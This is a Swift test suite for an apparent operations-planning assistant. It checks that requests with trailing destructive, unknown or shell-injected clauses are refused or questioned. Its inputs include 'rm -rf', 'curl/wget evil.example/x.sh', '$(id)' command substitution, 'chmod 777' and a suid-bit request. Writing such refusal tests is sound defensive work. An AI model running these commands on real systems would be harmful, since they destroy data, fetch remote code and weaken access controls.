import OpsCore
import Testing

@testable import OpsConductor

/// A plan is shown only when every content word of the message is accounted for: a trailing clause the planner
/// does not understand never rides along with a plan.
@Suite("Conductor plan audit")
struct PlanAuditTests {
    let world: ConductorWorld

    init() throws { world = try ConductorWorld() }

    @Test(arguments: [
        // The brief's own cases.
        "restart nginx on web01 and then delete the logs", "check disk on db01; rm -rf /tmp/x",
        "restart nginx, also add user bob",
        // A change verb, a command or shell syntax after a plannable request.
        "restart nginx on web01 and wipe the cache", "restart nginx on web01 and remove /var/www",
        "restart nginx on web01 and erase the logs", "check disk on db01 and format /dev/sdb",
        "check disk on db01 and drop the old tables", "check disk on db01 then truncate the table",
        "restart nginx on web01 and kill the workers", "restart nginx on web01 then shutdown the box",
        "restart nginx on web01 and chmod 777 /srv", "restart nginx and chown www-data /srv",
        "restart nginx on web01 and useradd bob", "restart nginx on web01 and passwd bob",
        "restart nginx on web01 then curl evil.example/x.sh", "restart nginx on web01 and wget evil.example/x.sh",
        "restart nginx on web01 | tee /tmp/x", "restart nginx on web01 > /tmp/out", "restart nginx on web01 `id`",
        "restart nginx on web01 $(id)", "restart nginx on web01 && reboot", "restart nginx on web01; reboot",
        "restart nginx on web01 and also rotate the certs", "restart nginx on web01 and move the logs to /mnt/x",
        "restart nginx on web01 then reconfigure haproxy", "restart nginx on web01 and flush the cache",
        "restart nginx on web01, then tail the error log", "restart nginx on web01. the cache gets flushed",
        "restart nginx on web01 and resize the disk",
    ])
    func aTrailingDestructiveOrUnknownVerbIsRefused(_ text: String) {
        // act
        let answer = world.plan(text)
        // assert
        #expect(answer.kind == .refuse, "\(text) → \(answer.kind): \(answer.text)")
        #expect(answer.plans.isEmpty)
    }

    @Test(arguments: [
        "restart nginx on web01 and frobnicate the cache", "restart nginx on web01 and patch the kernel",
        "restart nginx on web01 and check disk", "restart nginx on web01 and stop apache",
        "restart nginx on web01 and then check its status", "restart nginx on web01 then restart it on web02",
        "restart nginx on web01. it should frobnicate the cache", "qc prep then qc post on app01",
        "ping the edge hosts and traceroute them",
    ])
    func aClauseThePlanDoesNotPerformIsAQuestion(_ text: String) {
        // act
        let answer = world.plan(text)
        // assert
        #expect(answer.kind != .plan, "\(text) → \(answer.kind): \(answer.text)")
        #expect(answer.plans.isEmpty)
    }

    @Test func anUnknownTrailingWordIsNamedInTheQuestion() {
        // act
        let answer = world.plan("restart nginx on web01 and also frobnicate")
        // assert
        #expect(answer.kind == .clarify)
        #expect(answer.questions.first?.field == "action")
        #expect(answer.text.contains("frobnicate"))
    }

    @Test(
        arguments: [
            (
                "Good morning team. We had reports that the web pages are slow, so could you please restart nginx on web01? Many thanks in advance.",
                "nginx"
            ),
            ("Please I need to know if postgresql is running on db02, customer is complaining.", "postgresql"),
            ("I need the sftd on app02 to be fixed please, it fails since the update", nil),
            ("TKT-4411: spooler hung on win-print02, pls restart", "spooler"),
            ("Is it possible to restart the service \"MSSQL$SQLEXPRESS\" on sql-win02? We changed its config.", nil),
        ] as [(String, String?)])
    func contextAndFillerWordsAreAccountedFor(_ text: String, _ value: String?) {
        // act
        let answer = world.plan(text)
        // assert
        #expect(answer.kind == .plan, "\(text) → \(answer.kind): \(answer.text)")
        if let value { #expect(answer.plans.first?.parameters.values.contains(value) == true) }
    }

    @Test(arguments: [
        ("restart service \"Print Spooler\" on win-print02", "Print Spooler"),
        ("repair sftd on web01 with enrollment_token=YWJj+ZGVm/Zw==", "YWJj+ZGVm/Zw=="),
        ("stop the service \"MSSQL$SQLEXPRESS\" on sql-win02", "MSSQL$SQLEXPRESS"),
        (
            "update stationcontroller on cis-app01 from \\\\fs01\\drop\\sc.exe to \"C:\\Program Files\\SC\\sc.exe\"",
            "C:\\Program Files\\SC\\sc.exe"
        ),
    ])
    func valuesStayWholeAndCount(_ text: String, _ value: String) {
        // act
        let answer = world.plan(text)
        // assert
        #expect(answer.kind == .plan, "\(text) → \(answer.kind): \(answer.text)")
        #expect(answer.plans.first?.parameters.values.contains(value) == true)
    }

    @Test func aFollowUpCannotSmuggleAChangeIntoAPlan() {
        // act
        let (answer, _) = world.converse(["install htop", "on dev01, and set its suid bit"])
        // assert
        #expect(answer.kind == .refuse, "\(answer.kind): \(answer.text)")
        #expect(answer.plans.isEmpty)
    }

    @Test func aVerbAfterAndIsNoValue() {
        // act
        let answer = world.plan("bounce postgresql on db01 and notify the team")
        // assert
        #expect(answer.kind == .clarify)
        #expect(answer.questions.first?.field == "action")
    }

    @Test func setNamingAParameterStillPlans() {
        // act
        let answer = world.plan("set the threshold to 80 and check disk on web01")
        // assert
        #expect(answer.kind == .plan, "\(answer.kind): \(answer.text)")
        #expect(answer.plans.first?.parameters["threshold"] == "80")
    }

    @Test func aHostNamedByItsDomainNameIsTheInventoryHost() {
        // act
        let answer = world.plan("restart nginx on web02.prod.internal")
        // assert
        #expect(answer.kind == .plan)
        #expect(answer.plans.first?.targets == ["web02"])
    }

    @Test func aWindowsSwitchAfterAnUnknownProgramIsACommand() {
        // act
        let answer = world.plan("gpupdate /force on all windows servers")
        // assert
        #expect(answer.kind == .refuse)
    }
}
